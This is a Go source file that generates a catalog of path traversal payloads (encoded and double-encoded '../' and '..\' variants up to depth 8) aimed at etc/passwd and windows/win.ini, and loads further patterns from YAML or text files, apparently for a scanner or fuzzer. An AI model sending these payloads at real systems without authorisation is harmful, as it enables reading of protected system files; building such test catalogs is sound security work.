package candidate

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"gopkg.in/yaml.v3"
)

// traversal sequences, forward-slash style then backslash style.
var (
	slashSequences = []string{
		"../",
		"..%2f",
		"..%2F",
		"%2e%2e/",
		"%2e%2e%2f",
		"..%252f",
		"%252e%252e%252f",
		"....//",
		"..;/",
		".%2e/",
		"%c0%ae%c0%ae/",
	}
	backslashSequences = []string{
		"..\\",
		"..%5c",
		"%2e%2e%5c",
		"..%255c",
	}
)

const maxTraversalDepth = 8

// DefaultPatterns returns the built-in traversal catalog: every sequence
// repeated at depths 1 through 8 towards a well-known file of the matching
// platform.
func DefaultPatterns() []string {
	patterns := make([]string, 0, (len(slashSequences)+len(backslashSequences))*maxTraversalDepth)
	for _, seq := range slashSequences {
		for depth := 1; depth <= maxTraversalDepth; depth++ {
			patterns = append(patterns, strings.Repeat(seq, depth)+"etc/passwd")
		}
	}
	for _, seq := range backslashSequences {
		for depth := 1; depth <= maxTraversalDepth; depth++ {
			patterns = append(patterns, strings.Repeat(seq, depth)+"windows/win.ini")
		}
	}
	return patterns
}

var (
	// ErrCatalogUnreadable means the pattern catalog file could not be read.
	ErrCatalogUnreadable = errors.New("pattern catalog unreadable")
	// ErrInvalidCatalog means the catalog was read but is malformed or empty.
	ErrInvalidCatalog = errors.New("invalid pattern catalog")
)

type patternFile struct {
	Patterns []string `yaml:"patterns"`
}

// LoadPatterns reads an external traversal catalog. Files ending in .yaml or
// .yml hold a document with a top-level "patterns" list; anything else is
// read as one pattern per line with '#' comments.
func LoadPatterns(path string) ([]string, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("%w: %w", ErrCatalogUnreadable, err)
	}

	var patterns []string
	switch strings.ToLower(filepath.Ext(path)) {
	case ".yaml", ".yml":
		var pf patternFile
		if err := yaml.Unmarshal(data, &pf); err != nil {
			return nil, fmt.Errorf("%w: %s: %w", ErrInvalidCatalog, path, err)
		}
		for _, p := range pf.Patterns {
			if p = strings.TrimSpace(p); p != "" {
				patterns = append(patterns, p)
			}
		}
	default:
		for _, line := range strings.Split(string(data), "\n") {
			line = strings.TrimSpace(line)
			if line == "" || strings.HasPrefix(line, "#") {
				continue
			}
			patterns = append(patterns, line)
		}
	}

	if len(patterns) == 0 {
		return nil, fmt.Errorf("%w: %s contains no patterns", ErrInvalidCatalog, path)
	}
	return patterns, nil
}
